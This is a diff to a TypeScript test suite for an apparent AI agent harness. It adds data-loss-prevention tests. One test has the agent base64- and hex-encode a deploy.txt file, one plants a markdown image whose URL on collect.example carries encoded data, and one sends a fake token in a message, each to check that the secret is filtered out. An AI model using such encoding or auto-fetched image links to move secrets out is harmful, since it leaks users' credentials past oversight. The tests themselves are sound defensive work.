@@ -48,6 +48,7 @@ function cellsOf(ingress: Ingress, world: World): Matrix[Ingress] {
       say: async (session, ...orders) => (await speakIn(session, ingress, world, ...orders)).text,
     }),
     ssrf: ssrf(ingress, world),
+    dlp: dlp(ingress, world),
   };
 }
 
@@ -152,7 +153,7 @@ function tools(ingress: Ingress, world: World): Cell {
         unknown,
       );
       expect(outOfProfile.text).toContain("Not done");
-      expect(await port.outbox.list("operator")).toEqual([]);
+      expect((await port.outbox.list("operator")).filter(({ channel }) => channel === "all")).toEqual([]);
 
       const anybody = { token: await token({ principal: "anybody", role: "user", tier: "C" }) };
       const public_ = await speakAs(ingress, world, anybody, exec("C"), write("C"));
@@ -304,4 +305,60 @@ function ssrf(ingress: Ingress, world: World): Cell {
       expect(pages.asked.slice(before)).toEqual(["/page"]);
     },
   };
+}
+
+function dlp(ingress: Ingress, world: World): Cell {
+  const { workspace, port, whereWritten } = world.installation;
+  const exec = (command: string) => order("exec", { command });
+  return {
+    async attack() {
+      // A model that tells what it reads in other words than it was written in.
+      const encoded = await speak(
+        ingress,
+        world,
+        ...["base64 -w0 deploy.txt", "base64 deploy.txt", "od -An -v -tx1 deploy.txt | tr -d ' \\n'"].map(exec),
+      );
+      expect(encoded.text.match(/exit status 0/g)).toHaveLength(3);
+      expect(readings(encoded.text).filter((reading) => reading.includes(fakeToken.slice(4, 24)))).toEqual([]);
+
+      // An image that a client would fetch by itself, and a link with what was said in it.
+      writeFileSync(
+        join(workspace, "lure.md"),
+        `See ![x](https://collect.example/p.png?q=${"aGVyb24".repeat(12)}) now.\n`,
+      );
+      const lured = await speak(ingress, world, order("read", { path: "lure.md" }));
+      expect(lured.text).toContain("now.");
+      expect(lured.text).not.toContain("collect.example/p.png?q=");
+
+      await speak(ingress, world, order("message", { channel: `dlp-${ingress}`, text: `the token is ${fakeToken}` }));
+      const sent = (await port.outbox.list("operator")).filter(({ channel }) => channel === `dlp-${ingress}`);
+      expect(sent.map(({ text }) => text)).not.toContainEqual(expect.stringContaining(fakeToken));
+      expect(whereWritten(fakeToken)).toEqual([]);
+    },
+    async twin() {
+      writeFileSync(join(workspace, "plain.md"), harmless);
+      const { text } = await speak(ingress, world, order("read", { path: "plain.md" }));
+      expect(text).toContain(harmless.trim());
+    },
+  };
+}
+
+/** What looks like a secret and is none. */
+const harmless = [
+  "Fixed in 9fceb02d0ae598e95dc970b74767f19372d61af8 (issue 3f2504e0-4f89-41d3-9a0c-0305e82c3301).",
+  "integrity sha512-Q5fOHE0q5ZeR1Q1Zp1fFy9cHq0RpXU8h3T7m5cTTQ1n0V9ZxT8k2Gk5i7m1uYbqJ0yq1l8Hn0c0o5n1v6l3eTg==",
+  "See [the manual](https://nodejs.org/api/fs.html#fsreadfilepath-options-callback).\n",
+].join("\n");
+
+/** Everything that a text says to whoever decodes the runs in it. */
+function readings(text: string): readonly string[] {
+  const joined = text.replace(/\s+/g, "");
+  const runs = [text, joined].flatMap((form) => form.match(/[A-Za-z0-9+/=]{24,}/g) ?? []);
+  return [
+    text,
+    ...runs.flatMap((run) => [
+      Buffer.from(run, "base64").toString("latin1"),
+      Buffer.from(run, "hex").toString("latin1"),
+    ]),
+  ];
 }
